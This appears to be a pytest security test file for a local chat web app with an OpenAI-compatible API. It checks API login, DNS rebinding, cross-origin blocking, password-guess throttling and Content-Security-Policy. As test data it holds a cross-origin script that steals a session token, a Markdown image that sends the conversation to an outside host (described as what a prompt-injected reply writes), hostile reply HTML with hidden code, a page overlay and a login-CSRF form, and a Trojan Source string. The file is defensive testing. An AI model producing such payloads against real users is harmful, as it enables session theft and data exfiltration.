"""Who may connect, tried the way an attacker would against `python app.py` on the real default
model: the API beside a login page, DNS rebinding and pages of other origins, a server open to
its network, guessing passwords, secrets on the command line, an empty API key, and a reply's
Markdown image carrying the conversation out (Content-Security-Policy, in Chromium).

Two servers: `python app.py` with logins (alice, admin, from --auth; bob from --auth-file), as
issue 18 was tried, a process of its own as its command line is checked; and the app of one bound
to 0.0.0.0 without logins, served in the test process (harness/app_in_process.py). Addresses in
X-Forwarded-For stand for other machines: uvicorn takes them from a proxy on this machine, as it
would from nginx in front.
"""

import base64
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import openai
import pytest
from fastapi import FastAPI, Request
from fastapi.testclient import TestClient
from gradio_client import Client
from gradio_client.exceptions import AppError

from access import Logins, exposure_warnings
from api.auth import ApiAccess, ApiAccessCheck
from app import parse_args
from harness.app_in_process import AppInProcess
from harness.browser import CHROMIUM, ROOT, AppProcess, ask, bot_messages, free_port, wait_until_ready
from tests.media_samples import png_bytes, solid_image, tone, write_audio, write_video
from webui.languages import said

pytestmark = [pytest.mark.browser, pytest.mark.server]

playwright_api = pytest.importorskip("playwright.sync_api")
expect = playwright_api.expect
needs_chromium = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason=f"{CHROMIUM} is missing: apt-get install -y chromium")

USERS = {"alice": "alice-pw-4471", "bob": "bob-pw-9302"}
MODEL = "SmolLM2-135M-Instruct"
HI = {"model": MODEL, "messages": [{"role": "user", "content": "Hi"}], "max_tokens": 4}
MAX_LOGIN_WAIT = 4
ATTACKER, ALICE_AT_HOME, BOB_AT_WORK = "203.0.113.7", "198.51.100.2", "192.0.2.44"


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    """Logins as issue 18 tried them, no API key; alice's password on the command line, bob's in a file."""
    folder = tmp_path_factory.mktemp("app")
    users = folder / "users.txt"
    users.write_text(f"bob:{USERS['bob']}\n")
    with pytest.MonkeyPatch.context() as env:
        env.delenv("ANYCHAT_API_KEY", raising=False)
        process = AppProcess(folder, ("--backend", "huggingface", "--auth", f"alice:{USERS['alice']}", "--auth-file", str(users),
                                      "--admin", "alice", "--max-login-wait", str(MAX_LOGIN_WAIT)))
    yield process
    process.stop()


@pytest.fixture(scope="module")
def open_app(tmp_path_factory):
    """Bound to every address, without logins or API key."""
    with pytest.MonkeyPatch.context() as env:
        env.delenv("ANYCHAT_API_KEY", raising=False)
        process = AppInProcess(tmp_path_factory.mktemp("open"), ("--backend", "huggingface", "--host", "0.0.0.0"))
    yield process
    process.stop()


def url_of(process):
    return f"http://127.0.0.1:{process.port}"


# ---- the API beside the login page


def test_with_logins_the_api_takes_them_and_nothing_else(app):
    """Before: with --auth and no --api-key, /v1 answered anyone (200 without credentials)."""
    url = url_of(app)
    for request in (lambda: httpx.get(f"{url}/v1/models"), lambda: httpx.post(f"{url}/v1/chat/completions", json=HI, timeout=60),
                    lambda: httpx.get(f"{url}/v1/models", headers={"Authorization": "Bearer alice:not-her-password"}),
                    lambda: httpx.get(f"{url}/v1/models", headers={"Authorization": "Bearer"})):
        answer = request()
        assert answer.status_code == 401, answer.text
        assert "a login of this server's page as USER:PASS" in answer.json()["error"]["message"]
        assert answer.headers["www-authenticate"].startswith("Bearer")

    # The official client, its api_key being the login; and HTTP Basic, as curl -u sends it.
    client = openai.OpenAI(base_url=f"{url}/v1", api_key=f"bob:{USERS['bob']}", max_retries=0, timeout=300)
    reply = client.chat.completions.create(model=MODEL, messages=[{"role": "user", "content": "Hi"}], max_tokens=4, temperature=0)
    assert reply.choices[0].message.content
    assert httpx.get(f"{url}/v1/models", auth=("alice", USERS["alice"])).json()["data"][0]["id"] == MODEL
    assert "OpenAI-compatible API on" in app.log() and "(the page's logins: send USER:PASS as the API key, or as HTTP Basic)" in app.log()


def test_an_outsiders_request_body_is_not_read(app):
    """The credentials are checked before the body: an outsider sending 40 MB of JSON costs the
    server no reading or parsing. Before: the server waited for the whole body."""
    with socket.create_connection(("127.0.0.1", app.port), timeout=30) as connection:
        connection.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                           b"Content-Length: 40000000\r\n\r\n{")
        assert connection.recv(4096).startswith(b"HTTP/1.1 401 ")


def test_the_api_check_names_the_login_for_the_rest_of_the_request():
    """What the waiting line's fair share reads: ``request.state.user``, set only by a matching login."""
    fastapi_app = FastAPI()
    fastapi_app.add_middleware(ApiAccessCheck, access=ApiAccess("sk:the-key", Logins(list(USERS.items()))))  # a key may hold a colon

    @fastapi_app.get("/v1/who")
    def who(request: Request) -> dict:
        return {"user": request.state.user}

    client = TestClient(fastapi_app)
    assert client.get("/v1/who", auth=("alice", USERS["alice"])).json() == {"user": "alice"}
    assert client.get("/v1/who", headers={"Authorization": f"Bearer bob:{USERS['bob']}"}).json() == {"user": "bob"}
    assert client.get("/v1/who", headers={"Authorization": "Bearer sk:the-key"}).json() == {"user": None}
    for wrong in ("Bearer alice:sk:the-key", "Basic " + base64.b64encode(b"sk:the-key").decode(), "Bearer", "sk:the-key"):
        assert client.get("/v1/who", headers={"Authorization": wrong}).status_code == 401, wrong


# ---- Host and Origin


def test_a_dns_rebinding_page_gets_nothing(open_app):
    """A site whose name was made to point at this machine sends its own name as Host. Before:
    the page, its endpoints and /v1 answered it (200)."""
    url, port = url_of(open_app), open_app.port
    rebound = {"Host": f"rebind.attacker.example:{port}"}
    for method, path, body in (("GET", "/", None), ("GET", "/gradio_api/info", None), ("POST", "/v1/chat/completions", HI)):
        answer = httpx.request(method, f"{url}{path}", headers=rebound, json=body, timeout=60)
        assert answer.status_code == 400, (path, answer.text)
        assert "does not answer to the name 'rebind.attacker.example'" in answer.text and "--allowed-hosts" in answer.text
    assert httpx.post(f"{url}/v1/chat/completions", json=HI, headers=rebound, timeout=60).json()["error"]["code"] == "host_not_allowed"
    # Its own names and addresses still work.
    for host in (f"127.0.0.1:{port}", f"localhost:{port}"):
        assert httpx.get(f"{url}/gradio_api/info", headers={"Host": host}).status_code == 200
        assert httpx.post(f"{url}/v1/chat/completions", json=HI, headers={"Host": host}, timeout=300).status_code == 200


def test_pages_of_other_origins_cannot_send_requests(open_app, tmp_path):
    """A page on another port of this machine, or another site, posting to the server. Before:
    its upload was stored (200) and /v1 answered it."""
    url, port = url_of(open_app), open_app.port
    sample = tmp_path / "sample.png"
    sample.write_bytes(png_bytes(solid_image((200, 30, 30))))
    for origin in (f"http://127.0.0.1:{free_port()}", "https://attacker.example", "null"):
        with sample.open("rb") as file:
            upload = httpx.post(f"{url}/gradio_api/upload", files={"files": file}, headers={"Origin": origin})
        assert upload.status_code == 403, upload.text
        assert "takes requests only from its own page" in upload.text
        answer = httpx.post(f"{url}/v1/chat/completions", json=HI, headers={"Origin": origin}, timeout=60)
        assert answer.status_code == 403 and answer.json()["error"]["code"] == "origin_not_allowed"
    with sample.open("rb") as file:
        assert httpx.post(f"{url}/gradio_api/upload", files={"files": file}, headers={"Origin": url}).status_code == 200
    own_page = {"Origin": f"http://localhost:{port}", "Host": f"localhost:{port}"}
    assert httpx.post(f"{url}/v1/chat/completions", json=HI, headers=own_page, timeout=300).status_code == 200


# ---- bound beyond this machine without logins


def test_beyond_loopback_without_logins_nobody_manages_models_and_the_server_says_so(open_app):
    """Before: whoever reached the port was admin (an /unload from anyone unloaded the model)."""
    visitor = Client(url_of(open_app) + "/", verbose=False)
    with pytest.raises(AppError, match=re.escape(said("settings.needs_logins"))):
        visitor.predict(api_name="/unload")
    reply = visitor.predict({"text": "Hi", "files": []}, system="", tools="", temperature=0, max_new_tokens=4, seed=None, api_name="/chat")[0]
    assert reply[-1]["role"] == "assistant" and "could not answer" not in json.dumps(reply)
    assert "WARNING: --host 0.0.0.0 lets other machines reach this server, and it has no logins" in open_app.log()
    assert "Model management on the page: nobody" in open_app.log()


# ---- guessing passwords


def log_in(url, user, password, address, timeout=60):
    """A login on the page's form from ``address``: (status, seconds taken)."""
    start = time.monotonic()
    answer = httpx.post(f"{url}/login", data={"username": user, "password": password}, headers={"X-Forwarded-For": address}, timeout=timeout)
    return answer.status_code, time.monotonic() - start


def test_repeated_failed_logins_are_slowed_down_without_locking_out_the_user(app):
    """Before: every guess was answered at once, in parallel too, through the form and /v1 alike."""
    url = url_of(app)
    first = [log_in(url, "alice", f"guess-{n}", ATTACKER) for n in range(5)]
    assert [status for status, _ in first] == [400] * 5
    status, seconds = log_in(url, "alice", "guess-5", ATTACKER)
    assert status == 400 and seconds >= 0.9, "the sixth failure in a row should wait a second"

    # Guessing in parallel: one try waits its turn, the others are refused unchecked.
    with ThreadPoolExecutor(8) as pool:
        answers = list(pool.map(lambda n: log_in(url, "alice", f"parallel-{n}", ATTACKER), range(8)))
    refused = [seconds for status, seconds in answers if status == 429]
    assert len(refused) >= 6 and max(refused) < MAX_LOGIN_WAIT, answers

    # The real alice, elsewhere, gets in on her first try while her name is being guessed; so does bob.
    assert log_in(url, "alice", USERS["alice"], ALICE_AT_HOME, timeout=MAX_LOGIN_WAIT)[0] == 200
    assert log_in(url, "bob", USERS["bob"], BOB_AT_WORK, timeout=MAX_LOGIN_WAIT)[0] == 200

    # The API is no way around it: the same address's guesses through /v1 wait as long.
    start = time.monotonic()
    answer = httpx.get(f"{url}/v1/models", headers={"Authorization": "Bearer alice:api-guess", "X-Forwarded-For": ATTACKER}, timeout=60)
    assert answer.status_code == 401 and time.monotonic() - start >= 0.9

    # Someone who only mistyped is not kept out for long: at most --max-login-wait seconds.
    status, seconds = log_in(url, "alice", USERS["alice"], ATTACKER)
    assert status == 200 and seconds <= MAX_LOGIN_WAIT + 2, seconds


# ---- secrets


def test_secrets_on_the_command_line_are_named_at_startup_and_files_keep_them_off_it(app):
    """Before: nothing was said about --auth or --api-key showing in the process list."""
    command_line = Path(f"/proc/{app.process.pid}/cmdline").read_bytes().decode()
    assert USERS["alice"] in command_line and USERS["bob"] not in command_line
    assert "Warning: --auth on the command line shows every user of this machine its passwords" in app.log()
    assert "--auth-file FILE instead" in app.log()
    [warning] = exposure_warnings("127.0.0.1", 7860, True, True, parse_args(["--api-key", "k3y"]).secret_flags)
    assert "--api-key on the command line" in warning and "ANYCHAT_API_KEY" in warning
    with pytest.MonkeyPatch.context() as env:
        env.setenv("ANYCHAT_API_KEY", "k3y")
        args = parse_args([])
    assert args.api_key == "k3y" and args.secret_flags == []


@pytest.mark.parametrize(("argv", "env"), [([], ""), ([], "  "), (["--api-key", ""], None)])
def test_an_empty_api_key_is_refused_at_startup(argv, env):
    """Before: ANYCHAT_API_KEY="" started a server that took an empty bearer token."""
    environment = {name: value for name, value in os.environ.items() if name != "ANYCHAT_API_KEY"}
    if env is not None:
        environment["ANYCHAT_API_KEY"] = env
    started = subprocess.run([sys.executable, "app.py", "--port", str(free_port()), *argv], cwd=ROOT, env=environment,
                             capture_output=True, text=True, timeout=120)
    assert started.returncode == 2, started.stdout + started.stderr
    assert "the API key (--api-key or ANYCHAT_API_KEY) is empty" in started.stderr


# ---- what the page may fetch, in Chromium


class OutsideSite:
    """Another origin, on another port of this machine: it records every request and serves an
    image and a page whose script tries to read the server's answers."""

    def __init__(self, app_url: str) -> None:
        self.requests: list[str] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                site.requests.append(self.path)
                if self.path.startswith("/attack.html"):
                    body, kind = ATTACK_PAGE.replace("APP", app_url).encode(), "text/html"
                else:
                    body, kind = png_bytes(solid_image((0, 0, 0), (1, 1))), "image/png"
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


# Read the session of whoever is logged in to the page in this browser.
ATTACK_PAGE = """<script>
window.stolen = fetch("APP/gradio_api/token", {credentials: "include"})
    .then(answer => answer.text()).catch(error => "refused: " + error);
</script>"""

RECORD_CSP_VIOLATIONS = """window.cspViolations = [];
document.addEventListener("securitypolicyviolation", event => window.cspViolations.push(event.blockedURI + " " + event.violatedDirective));"""


@pytest.fixture
def outside(app):
    site = OutsideSite(url_of(app))
    yield site
    site.stop()


def logged_in_page(app, context, user):
    page = context.new_page()
    page.goto(url_of(app) + "/")
    page.get_by_label("username").fill(user)
    page.get_by_label("password").fill(USERS[user])
    page.get_by_role("button", name="Login").click()
    wait_until_ready(page)
    return page


@needs_chromium
def test_another_local_page_cannot_read_a_logged_in_session(app, browser, outside):
    """alice is logged in; a page on another port of this machine reads /gradio_api/token with her
    cookie. Before: Gradio's CORS takes every localhost origin as its own, and the page got
    alice's session token."""
    context = browser.new_context()
    try:
        logged_in_page(app, context, "alice")
        attacker = context.new_page()
        attacker.goto(f"{outside.url}/attack.html")
        stolen = attacker.evaluate("window.stolen")
        assert stolen.startswith("refused: TypeError"), stolen
    finally:
        context.close()


def conversation_file(path, outside_url, tmp_path):
    def data_url(mime, data):
        return f"data:{mime};base64,{base64.b64encode(data).decode()}"

    video = write_video(tmp_path / "clip.webm", seconds=1.0, codec="vp8")
    audio = write_audio(tmp_path / "tone.wav", tone(1.0, 16_000), 16_000)
    path.write_text(json.dumps({"system_prompt": "", "turns": [
        {"role": "user", "content": "Look at these.", "files": [
            {"name": "red.png", "data": data_url("image/png", png_bytes(solid_image((220, 40, 40))))},
            {"name": "tone.wav", "data": data_url("audio/wav", audio.read_bytes())},
            {"name": "clip.webm", "data": data_url("video/webm", video.read_bytes())},
        ]},
        # What a prompt-injected reply writes: the conversation in the URL of an image.
        {"role": "assistant", "content": f"Nice. ![]({outside_url}/pixel.png?conversation=Look+at+these)"},
    ]}))
    return str(path)


@needs_chromium
def test_the_page_fetches_nothing_from_outside_and_still_works(app, browser, outside, tmp_path):
    """Before: the reply's image was fetched from the outside site, the conversation in its URL."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    context.add_init_script(RECORD_CSP_VIOLATIONS)
    try:
        page = logged_in_page(app, context, "alice")
        page.get_by_text("Conversation file").click()
        with page.expect_file_chooser() as chooser:
            page.locator("#import-btn").click()
        chooser.value.set_files(conversation_file(tmp_path / "conversation.json", outside.url, tmp_path))

        # Thumbnails and players load from the server.
        thumbnail = page.locator("#chatbot [data-testid=user] img").first
        expect(thumbnail).to_be_visible()
        page.wait_for_function("img => img.complete && img.naturalWidth > 0", arg=thumbnail.element_handle())
        expect(page.locator("#chatbot video")).to_have_count(1)
        page.wait_for_function("() => document.querySelector('#chatbot video').readyState >= 1")  # its metadata read
        expect(page.locator("#chatbot [data-testid=waveform-Audio] .timestamp")).to_have_text("0:01")  # decoded: its length shows
        # The outside image is in the page, and the browser does not fetch it.
        outside_image = page.locator(f"#chatbot img[src^='{outside.url}']")
        expect(outside_image).to_have_count(1)
        page.wait_for_function("img => img.complete", arg=outside_image.element_handle())
        assert outside.requests == [], f"the outside site was asked for {outside.requests}"

        # An export with its media, saved chats, a reply.
        page.locator("#export-btn").click()
        with page.expect_download() as download:
            page.locator("#export-file a").first.click()
        exported = json.loads(Path(download.value.path()).read_text())
        assert [file["data"][:16] for file in exported["turns"][0]["files"]] == ["data:image/png;b", "data:audio/wav;b", "data:video/webm;"]
        page.locator("#new-chat-btn").click()
        ask(page, "Say hi.")
        expect(bot_messages(page).last).not_to_contain_text("could not answer")
        expect(page.locator("#chat-list label")).to_have_text(["Say hi.", "Look at these."])

        violations = page.evaluate("window.cspViolations")
        page.reload()
        wait_until_ready(page)
        expect(page.locator("#chat-list label")).to_have_text(["Say hi.", "Look at these."])
        assert outside.requests == [], f"the outside site was asked for {outside.requests}"
    finally:
        context.close()
    assert violations and all(v.startswith(outside.url) for v in violations), f"the page itself broke the policy: {violations}"


def import_reply(page, reply, tmp_path):
    """Show a conversation whose reply is ``reply``, as an imported chat shows it."""
    path = tmp_path / "reply.json"
    path.write_text(json.dumps({"system_prompt": "", "turns": [{"role": "user", "content": "Show me."}, {"role": "assistant", "content": reply}]}))
    page.get_by_text("Conversation file").click()
    with page.expect_file_chooser() as chooser:
        page.locator("#import-btn").click()
    chooser.value.set_files(str(path))
    expect(bot_messages(page).last).to_contain_text("The end.")


# What a prompt-injected reply (or an imported chat) writes: code hidden from the eye, a box over
# the page, a form that posts the attacker's login, the markup of the page's own controls.
HOSTILE_REPLY = """Run this:

```python
print("Hello!")
```

<pre><code class="language-python">print("Hi!")<span hidden>
print("hidden line")</span></code></pre>

<details><summary>More</summary><pre><code class="language-python">print("folded")</code></pre></details>

<div style="position:fixed;inset:0;z-index:9999;background:white" id="cover">Your session expired.</div>

<form action="/login" method="post"><input type="hidden" name="username" value="mallory"><button id="sneaky">Continue</button></form>

<span class="tool-approval"><span class="approve-once q-0123456789abcdef">Allow once</span></span>
<span class="version-go v-0">‹</span> <span class="browser-run k-0123456789abcdef">marker</span>

The end."""


@needs_chromium
def test_a_reply_can_neither_hide_code_nor_cover_the_page_nor_post_a_login(app, browser, tmp_path):
    """Before: the reply's HTML kept style, forms and hidden: ▶ Run ran the hidden line, a fixed
    box covered the chat, and the form signed the browser into the attacker's account."""
    context = browser.new_context()
    try:
        page = logged_in_page(app, context, "alice")
        import_reply(page, HOSTILE_REPLY, tmp_path)
        reply = bot_messages(page).last
        # Its HTML shows as the text it is; only Markdown's own code block is code (the hidden output under its Run is the page's).
        expect(reply).to_contain_text('<form action="/login" method="post">')
        expect(reply).to_contain_text('<div style="position:fixed;inset:0;z-index:9999;background:white" id="cover">')
        for planted in ("form", "input", "#sneaky", "#cover", "[hidden]:not(.python-output)", "details", "[style*=fixed]", ".tool-approval", ".version-go", ".browser-run"):
            expect(page.locator(f"#chatbot [data-testid=bot] {planted}")).to_have_count(0)
        runs = page.locator("#chatbot .python-run button")
        expect(runs).to_have_count(1)
        runs.click()
        expect(page.locator("#chatbot .python-output")).to_have_text("Hello!\n", timeout=120_000)
        # No page of this server posts a form: the login signs in by a script's fetch.
        assert "form-action 'none'" in httpx.get(url_of(app) + "/").headers["content-security-policy"]
    finally:
        context.close()


SANDBOX_PROBE = """```python
import js
print("origin", js.self.origin)
try:
    answer = await js.fetch("APP/gradio_api/info", js.Object.fromEntries([["credentials", "include"]]))
    print("fetched", answer.status)
except Exception as error:
    print("refused", type(error).__name__)
```

```python
print("‮ evil ⁦")
```

The end."""


@needs_chromium
def test_python_in_the_browser_holds_no_login_and_its_files_are_behind_it(app, browser, tmp_path):
    """Before: the interpreter was a same-origin worker, whose fetches carried the page's cookies
    (one click listed the user's saved chats), and /pyodide/ served its REPL pages to anyone."""
    context = browser.new_context()
    try:
        page = logged_in_page(app, context, "alice")
        import_reply(page, SANDBOX_PROBE.replace("APP", url_of(app)), tmp_path)
        runs = page.locator("#chatbot .python-run button")
        expect(runs).to_have_count(2)
        runs.first.click()
        output = page.locator("#chatbot .python-output").first
        expect(output).to_contain_text("refused", timeout=120_000)
        expect(output).to_contain_text("origin null")
        # Code that reads in another order than it runs (Trojan Source) does not run.
        runs.last.click()
        expect(page.locator("#chatbot .python-output.failed")).to_contain_text("Not run: this code holds characters that change the order")
    finally:
        context.close()
    # The interpreter's files are under a path only a login's page names, and only those it loads.
    outsider = httpx.get(url_of(app) + "/config")
    assert outsider.status_code == 401 and "/pyodide/" not in outsider.text
    with httpx.Client(base_url=url_of(app)) as alice:
        assert alice.post("/login", data={"username": "alice", "password": USERS["alice"]}).status_code == 200
        path = re.search(r"/pyodide/[\w-]+/", alice.get("/config").text).group()
    assert httpx.get(url_of(app) + "/pyodide/pyodide.asm.wasm").status_code == 404
    wasm = httpx.head(url_of(app) + path + "pyodide.asm.wasm", headers={"Origin": "null"})
    assert (wasm.status_code, wasm.headers["access-control-allow-origin"], wasm.headers["content-type"]) == (200, "*", "application/wasm")
    assert httpx.get(url_of(app) + path + "console.html").status_code == 404
    # Reading only: anything else from Origin null is refused.
    assert httpx.post(url_of(app) + path + "pyodide.js", headers={"Origin": "null"}).status_code == 403
